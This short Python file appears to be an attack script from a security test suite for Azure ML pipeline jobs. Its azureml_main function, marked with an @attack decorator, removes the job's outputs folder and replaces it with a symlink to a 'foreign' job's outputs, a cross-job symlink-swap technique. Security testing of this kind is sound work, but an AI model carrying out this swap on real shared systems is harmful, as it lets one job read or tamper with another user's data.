"""Swaps the folder of its uploads for a link to a foreign folder."""

import os

from attack import BAIT, attack, job_folder


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = os.path.join(job_folder(), "outputs", "files")
    os.rmdir(place)
    os.symlink(os.path.join(BAIT["foreign_outputs"], "files"), place)
    return ""
